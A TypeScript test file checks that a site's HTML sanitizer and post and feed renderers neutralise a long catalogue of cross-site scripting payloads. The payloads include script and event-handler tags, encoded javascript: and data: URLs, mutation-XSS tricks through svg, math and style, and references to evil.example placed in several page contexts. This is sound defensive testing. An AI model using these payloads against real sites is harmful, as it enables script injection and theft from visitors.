import type { Element } from 'hast';
import { fromParse5 } from 'hast-util-from-parse5';
import { parse, parseFragment } from 'parse5';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { cleanForStorage, renderForFeed, renderPost } from '@/lib/posts/html';

const script = '<script>alert(1)</script>';
const handler = '<img src=x onerror=alert(1)>';

const payloads: string[] = [
  // Plain and broken tags.
  script,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<a href="x" onclick=alert(1)>a</a>',
  '<p/onmouseover=alert(1)>a',
  '<p onclick\n=\nalert(1)>a</p>',
  '<p "onclick=alert(1)">a</p>',
  "<p title='\"onclick=alert(1)'>a</p>",
  '<img/src=x/onerror=alert(1)>',
  handler,
  '<img src=x onerror="alert(1)"',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<style>@import "//evil.example";</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<p is="x-y" id="location" name="cookie">a</p>',
  // Addresses.
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x0003a;alert(1)',
    'javascript:%61lert(1)',
    'javascript://%0aalert(1)',
    'javascript:/*--></title></style></textarea></script><script>alert(1)//',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:https://site.example/x',
    'feed:javascript:alert(1)',
    'view-source:javascript:alert(1)',
    '//evil.example/x',
    '\\\\evil.example/x',
    '/\\evil.example/x',
    '/\t/evil.example/x',
    'http:\\\\evil.example',
    'ht\ntps://evil.example',
  ].flatMap((address) => [
    `<a href="${address}">a</a>`,
    `<img src="${address}">`,
    `<iframe src="${address}"></iframe>`,
  ]),
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<img src=/a.png srcset="//evil.example/a.png 1x">',
  '<picture><source srcset="//evil.example/a.png"><img src=/a.png></picture>',
  '<a href="/x" ping="//evil.example">a</a>',
  '<a xlink:href="javascript:alert(1)">a</a>',
  '<blockquote cite="javascript:alert(1)">a</blockquote>',
  // Frames that are nearly the player's.
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/aircAruvnKk" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>',
  '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/aircAruvnKk"></iframe>',
  '<iframe src="https://youtube.com@evil.example/embed/aircAruvnKk"></iframe>',
  '<iframe src="javascript://www.youtube.com/embed/aircAruvnKk?%0aalert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aircAruvnKk"><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com/embed/aircAruvnKk" title="&quot;><script>alert(1)</script>"></iframe>',
  '<a class="video-link" data-video-id="x&quot;><script>alert(1)</script>" href="#">a</a>',
  '<span data-picture-to-add="javascript:alert(1)" title="<script>alert(1)</script>" onclick=alert(1)></span>',
  '<img src="https://evil.example/&quot;><script>alert(1)</script>" alt="&quot;><script>alert(1)</script>">',
  // Drawings and formulas, and their ways back into HTML.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math href="javascript:alert(1)">a</math></style>',
  '<math href="javascript:alert(1)">a</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">a</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><b><style><b title="</style><img src=x onerror=alert(1)>">',
  // Elements whose content is text to one parser and markup to another.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<select><style></select><img src=x onerror=alert(1)>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  // Comments, declarations and the like.
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!-- a -- ><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<?<img src=x onerror=alert(1)>?>',
  '<!<img src=x onerror=alert(1)>>',
  '</ <img src=x onerror=alert(1)>>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  // Misnesting: what a second parser might put elsewhere.
  '<table><td><a href="/x"><table><td><a onclick=alert(1)>a</table></a></table>',
  '<table><script>alert(1)</script><tr><td>a</td></tr></table>',
  '<p><table><p><img src=x onerror=alert(1)></table>',
  '<b><p><b><p><img src=x onerror=alert(1)></b></p></b>',
  '<a href="/x"><div><a href="javascript:alert(1)">a</a></div></a>',
  '<code class="language-js&quot; onclick=alert(1)">a</code>',
  '<pre><code class="language-xml">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
  '<pre><code class="language-js">"</code><img src=x onerror=alert(1)>"</pre>',
  '<h2>&lt;img src=x onerror=alert(1)&gt;</h2>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x one\u0000rror=alert(1)>',
  '<\u0000img src=x onerror=alert(1)>',
  '\uFEFF<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
];

const elements = new Set(
  'p h2 h3 h4 ul ol li blockquote pre code hr br a strong b em i u s sub sup mark figure figcaption img table caption colgroup col thead tbody tfoot tr th td div span iframe'.split(
    ' ',
  ),
);
const attributes = new Set(
  'href title target rel src alt width height loading decoding start dataType dataChecked colSpan rowSpan scope span className dataYoutubeVideo dataPictureToAdd dataVideoId role ariaLabel tabIndex id'.split(
    ' ',
  ),
);

/**
 * What a browser would find amiss in a piece of HTML, whether it is read on its own or as part of a
 * page.
 */
function faults(html: string): string[] {
  const found: string[] = [];
  const check = ({ tagName, properties }: Element): void => {
    if (!elements.has(tagName)) found.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (!attributes.has(name)) found.push(`${tagName} ${name}`);
      if (name !== 'href' && name !== 'src') continue;
      const { protocol, host } = new URL(String(value), 'https://site.example/');
      const fine =
        tagName === 'a'
          ? ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol)
          : protocol === 'https:';
      const owners = { img: 'site.example', iframe: 'www.youtube-nocookie.com' };
      const owner = Object.entries(owners).find(([tag]) => tag === tagName)?.[1];
      const hidden =
        tagName === 'a' &&
        host !== 'site.example' &&
        host !== '' &&
        !/^https?:\/\//.test(String(value));
      if (!fine || hidden || (owner && host !== owner)) found.push(`${tagName} ${name} ${value}`);
    }
  };
  const fragment = fromParse5(parseFragment(html));
  visit(fragment, 'element', check);
  const page = fromParse5(parse(`<!doctype html><main>${html}</main>`));
  visit(page, 'element', (node) => {
    if (!['html', 'head', 'body', 'main'].includes(node.tagName)) check(node);
  });
  return found;
}

const surroundings: ReadonlyArray<readonly [string, (payload: string) => string]> = [
  ['alone', (payload) => payload],
  ['in a cell', (payload) => `<table><tbody><tr><td>${payload}</td></tr></tbody></table>`],
  ['in a table', (payload) => `<table>${payload}</table>`],
  [
    'in a list in a quote',
    (payload) => `<blockquote><ul><li><p>${payload}</p></li></ul></blockquote>`,
  ],
  ['in an attribute', (payload) => `<p title="${payload}">a</p><a title='${payload}'>b</a>`],
  ['in code', (payload) => `<pre><code class="language-xml">${payload}</code></pre>`],
];

describe.each(surroundings)('a payload %s', (_where, put) => {
  it.each(payloads)('%j does nothing', (payload) => {
    const stored = cleanForStorage(put(payload));
    expect(faults(stored)).toEqual([]);
    expect(faults(renderPost(stored).html)).toEqual([]);
    // What was stored by other means is cleaned on reading alone.
    expect(faults(renderPost(put(payload)).html)).toEqual([]);
    // Read and written again it stays what it is: no second parser makes something else of it.
    expect(cleanForStorage(stored)).toBe(stored);
  });
});

it.each(payloads)('%j does nothing in a feed', (payload) => {
  const own = renderForFeed(payload, 'https://site.example').replaceAll(
    'https://site.example/',
    '/',
  );
  expect(faults(own)).toEqual([]);
});
